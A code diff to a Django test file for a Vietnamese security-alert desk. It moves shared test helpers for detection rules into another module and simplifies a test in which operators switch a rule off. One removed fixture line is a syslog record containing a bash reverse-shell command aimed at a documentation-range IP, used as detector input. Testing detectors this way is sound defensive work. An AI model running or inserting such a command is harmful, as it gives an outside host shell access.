@@ -3,22 +3,15 @@
 
 from dataclasses import replace
 from datetime import timedelta
-from zoneinfo import ZoneInfo
 
 import pytest
 from django.urls import reverse
 from django.utils import timezone
 
-from tinhso.kernel.identity.queries import viewer_of_officer
-from tinhso.kernel.registry.types import PostRole
+from tinhso.faces.desk.tests.alerting import LINES, LOOKED, raised
 from tinhso.modules.onestop.tests import world
-from tinhso.modules.security.actions import detecting
 from tinhso.modules.security.collect import segments
-from tinhso.modules.security.collect.reader import Batch
-from tinhso.modules.security.collect.records import Record, Way
 from tinhso.modules.security.collect.segments import Position
-from tinhso.modules.security.detection.pipeline import Machine, Pipeline
-from tinhso.modules.security.detection.rulebook import loaded
 from tinhso.modules.security.models import Alert, DetectorPlace, Suppression
 from tinhso.modules.security.queries import trying
 from tinhso.modules.security.store import connecting
@@ -26,50 +19,12 @@ from tinhso.modules.security.store.client import Store
 from tinhso.modules.security.store.tests.running import Running
 
 LIST, RULES, SEARCH = (reverse(f"desk:{name}") for name in ("alerts", "detection_rules", "events"))
-LOOKED = "Đã xem, quản trị viên gõ nhầm lệnh."
-LINES = (
-    "<85>1 - may-1 sudo 5 - - lan : user NOT in sudoers",
-    "<85>1 - may-2 sudo 5 - - lan : user NOT in sudoers",
-    "<14>1 - may-1 app 5 - - bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
-)
-
-
-def raised(people, *lines: str):
-    """Take lines as the detector does; return what the pipeline made of them."""
-    detecting.claim_place(7)
-    DetectorPlace.objects.update(segment=1, offset=0)
-    rulebook = loaded([])
-    pipeline = Pipeline(
-        rulebook,
-        lambda one, event: Machine(event["host"], None, people.unit.id),
-        spool=7,
-        zone=ZoneInfo("UTC"),
-        keep_days=365,
-    )
-    arrived = int(timezone.now().timestamp() * 1e9)
-    records = tuple(Record(Way.TCP, arrived, line.encode(), "10.1.2.3") for line in lines)
-    taken = pipeline.take(
-        Batch(records, Position(1, 900), starts=tuple(range(0, 100 * len(lines), 100))), Position(1, 0)
-    )
-    detecting.note_rules(rulebook)
-    detecting.keep_batch(taken, Position(1, 0), rulebook, now=timezone.now())
-    return taken
-
-
-@pytest.fixture
-def head(people, sign_in):
-    return sign_in(people.head)
 
 
 @pytest.fixture
 def alert(people) -> Alert:
     raised(people, *LINES)
     return Alert.objects.get(host="may-2")
-
-
-def operator(people, sign_in):
-    officer = world.officer_in(people.unit, PostRole.OPERATOR, "van-hanh")
-    return sign_in(viewer_of_officer(officer, timezone.localdate()))
 
 
 def page(one: Alert) -> str:
@@ -146,16 +101,15 @@ def test_another_unit_neither_sees_nor_handles(people, sign_in, alert):
     assert other.post(page(alert), {"act": "take"}).status_code == 404
 
 
-def test_rules_are_listed_and_switched_by_operators(head, alert, people, sign_in):
+def test_rules_are_listed_and_switched_by_operators(head, operator, alert):
     shown = head.get(RULES).text
     assert "Lệnh sudo bị từ chối" in shown
     assert "T1110" in shown
     one = f"{reverse('desk:detection_rule')}?ma={alert.rule_key}"
     assert "Tắt luật này" not in head.get(one).text
     assert head.post(one, {"act": "off", "words": LOOKED}).status_code == 403
-    run = operator(people, sign_in)
-    assert run.post(one, {"act": "off", "words": "ừ"}).status_code == 422
-    assert "Đã tắt luật" in run.post(one, {"act": "off", "words": LOOKED}, follow=True).text
+    assert operator.post(one, {"act": "off", "words": "ừ"}).status_code == 422
+    assert "Đã tắt luật" in operator.post(one, {"act": "off", "words": LOOKED}, follow=True).text
     assert "Lệnh sudo bị từ chối" in head.get(f"{RULES}?tt=off").text
     assert "Lệnh sudo bị từ chối" not in head.get(f"{RULES}?dang=csv").content.decode("utf-8-sig")
     assert head.get(f"{reverse('desk:detection_rule')}?ma=khong").status_code == 404
